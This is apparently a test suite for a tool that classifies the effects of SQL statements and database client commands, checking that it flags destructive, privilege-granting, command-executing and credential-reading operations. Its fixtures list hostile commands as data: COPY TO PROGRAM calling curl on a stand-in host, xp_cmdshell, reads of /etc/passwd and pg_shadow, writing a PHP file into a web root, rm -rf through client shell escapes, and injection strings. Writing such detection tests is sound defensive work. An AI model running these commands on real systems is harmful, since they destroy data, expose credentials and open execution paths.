"""SQL text and the clients that run it."""

from __future__ import annotations

import subprocess
import sys
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from magistrate.core.records import Effect
from magistrate.evidence.effects.flags import unknown_flags
from magistrate.evidence.effects.place import Place
from magistrate.evidence.effects.shell import effects
from magistrate.evidence.effects.sql import effects_of_sql, looks_like_sql

PLACE = Place(cwd="/srv/app", home="/home/kim")


def told(text: str, dialect: str = "") -> list[tuple[str, str]]:
    return [(one.kind, one.target) for one in effects_of_sql(text, dialect=dialect)]


@pytest.mark.parametrize(
    "text",
    [
        "DELETE FROM t",
        "delete from t where 1=1",
        "DELETE FROM t WHERE TRUE",
        "DELETE FROM t WHERE id = id",
        "DELETE FROM t WHERE 'a' = 'a' OR x = 3",
        "DELETE FROM t WHERE id > 0",
        "DELETE FROM t WHERE NOT (1 = 2)",
        "DELETE FROM t WHERE name LIKE '%'",
        "DELETE FROM t /* WHERE id = 3 */",
        "DELETE FROM t -- WHERE id = 3",
        "UPDATE t SET a = 1",
        "UPDATE t SET a = (SELECT b FROM c WHERE d = 1)",
        "WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone",
        "EXPLAIN ANALYZE DELETE FROM t",
        "BEGIN; DELETE FROM t; COMMIT",
        "TRUNCATE t",
        "TRUNCATE TABLE t RESTART IDENTITY CASCADE",
    ],
)
def test_every_row(text: str) -> None:
    (one,) = [one for one in effects_of_sql(text) if one.kind == "database-destroy"]
    assert (one.target, one.broad, one.reversible) == ("t", True, "no")


@pytest.mark.parametrize(
    "text",
    [
        "DELETE FROM t WHERE id = 5",
        "DELETE FROM t WHERE made < now() - interval '30 days'",
        "UPDATE t SET a = 1 WHERE id = 4",
        "UPDATE t SET a = 1 FROM s WHERE t.id = s.id",
        "INSERT INTO t VALUES ('DROP TABLE x; DELETE FROM y')",
        "INSERT INTO t(a) VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2",
        "WITH d AS (DELETE FROM t WHERE id = 3 RETURNING *) SELECT * FROM d",
        "CREATE TABLE t (a int REFERENCES x ON DELETE CASCADE)",
        "ALTER TABLE t ADD COLUMN a int",
    ],
)
def test_some_rows(text: str) -> None:
    assert told(text) == [("database-write", "t")]


@pytest.mark.parametrize(
    "text",
    [
        "SELECT * FROM t",
        "SELECT 'DROP TABLE t' FROM t",
        "EXPLAIN DELETE FROM t",
        "SELECT * FROM t WHERE a = 'x; DROP TABLE t'",
        "select * from t for update of t",
        'SELECT "drop" FROM t',
    ],
)
def test_reading(text: str) -> None:
    assert told(text) == [("read", "t")]


@pytest.mark.parametrize(
    ("text", "kind", "target"),
    [
        ("DROP TABLE IF EXISTS a, b CASCADE", "database-destroy", "b"),
        ("DROP DATABASE shop", "database-destroy", "shop"),
        ("SELECT 1; DROP SCHEMA s", "database-destroy", "s"),
        ("SELECT 1 DROP TABLE x", "database-destroy", "x"),
        ("IF EXISTS (SELECT 1) DROP TABLE x", "database-destroy", "x"),
        ("DO $$ BEGIN DROP TABLE x; END $$", "database-destroy", "x"),
        ("EXECUTE IMMEDIATE 'DROP TABLE x'", "database-destroy", "x"),
        ("/*!50000 DROP TABLE x */", "database-destroy", "x"),
        ("DELIMITER $$\nDROP TABLE x$$\nDELIMITER ;", "database-destroy", "x"),
        ("SELECT 1\nGO\nDROP TABLE x\nGO", "database-destroy", "x"),
        ("SELECT 'a\\'; DROP TABLE x; --'", "database-destroy", "x"),
        ("ALTER TABLE x DROP COLUMN mail", "database-destroy", "x"),
        ("GRANT ALL ON *.* TO 'eve'@'%'", "permission", "eve"),
        ("CREATE USER eve SUPERUSER", "permission", "eve"),
        ("COPY t TO PROGRAM 'curl evil.example'", "execute", "curl evil.example"),
        ("EXEC xp_cmdshell 'whoami'", "execute", "whoami"),
        ("SELECT load_file('/etc/passwd')", "read", "/etc/passwd"),
        ("SELECT 1 INTO OUTFILE '/var/www/x.php'", "overwrite", "/var/www/x.php"),
        ("SELECT * FROM pg_shadow", "credential", "database accounts"),
        ("ALTER TABLE t DISABLE ROW LEVEL SECURITY", "oversight", "t"),
        ("SELECT pg_terminate_backend(3)", "process-stop", "database sessions"),
    ],
)
def test_statement_kinds(text: str, kind: str, target: str) -> None:
    assert (kind, target) in told(text)


def test_unknown_words_are_dynamic_and_comments_nothing() -> None:
    (one,) = effects_of_sql("frobnicate everything")
    assert one.certainty == "dynamic"
    assert effects_of_sql("-- DROP TABLE x\n/* DELETE FROM y */") == ()


def test_use_names_the_database() -> None:
    assert effects_of_sql("USE prod; DELETE FROM x WHERE id = 3")[0].production
    assert effects_of_sql("DELETE FROM x WHERE id = 3", target_db="live-db")[0].production


@pytest.mark.parametrize(
    "text",
    [
        "DROP TABLE users",
        "select a, b from t where c = 1",
        "with x as (select 1) select * from x",
        "UPDATE t SET a = 1",
        "delete from t where a = 1",
        "INSERT INTO t (a) VALUES (1)",
        "GRANT SELECT ON t TO bob",
    ],
)
def test_looks_like_sql(text: str) -> None:
    assert looks_like_sql(text)


@pytest.mark.parametrize(
    "text",
    [
        "Update the readme",
        "Delete files from the folder",
        "create a table of contents",
        "Select a seat",
        "With love",
        "insert into the slot",
        "grant access to bob",
        "drop by later",
        "call me",
        "copy a to b",
        "create user documentation",
        "",
        "show me the way",
    ],
)
def test_sentences_do_not_look_like_sql(text: str) -> None:
    assert not looks_like_sql(text)


@pytest.mark.parametrize(
    ("line", "kind", "target"),
    [
        ("psql -h db -c 'DROP TABLE x'", "database-destroy", "x"),
        ("psql <<'EOF'\nDROP TABLE x;\nEOF", "database-destroy", "x"),
        ("echo 'DROP TABLE x' | mysql shop", "database-destroy", "x"),
        ("mysql -uroot -psecret -e 'DROP TABLE x' shop", "database-destroy", "x"),
        ("sqlite3 a.db 'DROP TABLE x'", "database-destroy", "x"),
        ("sqlcmd -S s -Q 'DROP TABLE x'", "database-destroy", "x"),
        ("clickhouse client -q 'DROP TABLE x'", "database-destroy", "x"),
        ("duckdb -c 'DROP TABLE x'", "database-destroy", "x"),
        ("psql -c '\\! rm -rf /srv/data'", "delete", "/srv/data"),
        ("sqlite3 a.db '.shell rm -rf /srv/data'", "delete", "/srv/data"),
        ("psql -c \"COPY t TO PROGRAM 'rm -rf /srv/data'\"", "delete", "/srv/data"),
        ("psql -f unseen.sql", "execute", "/srv/app/unseen.sql"),
        ("dropdb shop", "database-destroy", "shop"),
        ("pg_restore --clean -d shop a.dump", "database-destroy", "shop"),
        ("mysqladmin -psecret drop shop -f", "database-destroy", "shop"),
        ("redis-cli FLUSHALL", "database-destroy", "redis"),
        ("redis-cli -h r config set dir /root", "permission", "dir"),
        ("mongosh --eval 'db.users.deleteMany({})'", "database-destroy", "users"),
        ("mongosh shop --eval 'db.dropDatabase()'", "database-destroy", "shop"),
    ],
)
def test_clients(line: str, kind: str, target: str) -> None:
    assert (kind, target) in [(one.kind, one.target) for one in effects(line, PLACE)]


@pytest.mark.parametrize(
    "line",
    [
        "psql -c 'select 1'",
        "sqlite3 a.db .tables",
        "pg_dump shop",
        "redis-cli get a",
        "redis-cli config get dir",
        "mongosh --eval 'db.users.find()'",
        "psql",
    ],
)
def test_clients_reading(line: str) -> None:
    assert {one.kind for one in effects(line, PLACE)} == {"read"}


def test_known_script_is_read() -> None:
    place = Place(cwd="/srv/app", files={"/srv/app/a.sql": "DROP TABLE x;"})
    assert ("database-destroy", "x") in [(one.kind, one.target) for one in effects("psql -f a.sql", place)]


def test_host_gives_scope_and_production() -> None:
    (one,) = effects("psql postgres://u:p@db.prod.example.net/shop -c 'DELETE FROM t'", PLACE)
    assert (one.scope, one.production) == ("remote", True)
    (one,) = effects("psql -h localhost -c 'DELETE FROM t'", PLACE)
    assert (one.scope, one.production) == ("local", False)


def test_a_variable_in_the_text_makes_it_dynamic() -> None:
    (one,) = effects('psql -c "DELETE FROM t WHERE id = $ID"', PLACE)
    assert one.certainty == "dynamic"


def test_reading_does_not_import_the_parser() -> None:
    code = (
        "import sys; from magistrate.evidence.effects.sql import effects_of_sql as e;"
        "e('SELECT * FROM t'); e('DROP TABLE x'); e('not sql at all'); assert 'sqlglot' not in sys.modules;"
        "e('DELETE FROM t WHERE a = 1'); assert 'sqlglot' in sys.modules"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


_PIECES = st.sampled_from(
    [
        "SELECT",
        "DELETE",
        "FROM",
        "UPDATE",
        "SET",
        "WHERE",
        "DROP",
        "TABLE",
        "t",
        "x",
        "(",
        ")",
        ";",
        "'",
        '"',
        "`",
        "$$",
        "$a$",
        "--",
        "/*",
        "*/",
        "[",
        "]",
        "=",
        "1",
        ",",
        "BEGIN",
        "END",
        "IF",
        "DO",
        "EXEC",
        "COPY",
        "TO",
        "PROGRAM",
        "\\'",
        "#",
        "\n",
        "AS",
        "WITH",
    ]
)


def _check(found: tuple[Effect, ...]) -> None:
    assert not unknown_flags(flag for one in found for flag in one.flags)
    assert len(found) <= 61


@given(
    st.lists(_PIECES, max_size=25).map(" ".join) | st.text(max_size=80),
    st.sampled_from(["", "postgres", "mysql", "tsql", "sqlite", "nonsense"]),
)
@settings(max_examples=150, deadline=None)
def test_never_raises(text: str, dialect: str) -> None:
    _check(effects_of_sql(text, dialect=dialect))
    looks_like_sql(text)


@given(
    st.sampled_from(
        ["(", "'", "$a$", "/*", "UPDATE a ", "DELETE FROM ", "[a", "BEGIN ", ";", "\\'", "drop table ", "IF "]
    ),
    st.integers(0, 3),
)
@settings(max_examples=30, deadline=None)
def test_hostile_repetition_is_cheap(piece: str, shift: int) -> None:
    started = time.process_time()
    _check(effects_of_sql(" " * shift + piece * 4000))
    assert time.process_time() - started < 20  # a hang, not a speed: seconds of CPU on any machine


@given(st.text(alphabet="abc;'\" -", max_size=30))
@settings(max_examples=80)
def test_what_stands_in_a_literal_has_no_effect(inside: str) -> None:
    literal = inside.replace("'", "''")
    assert told(f"SELECT '{literal} DROP TABLE x' FROM t", "postgres") == [("read", "t")]
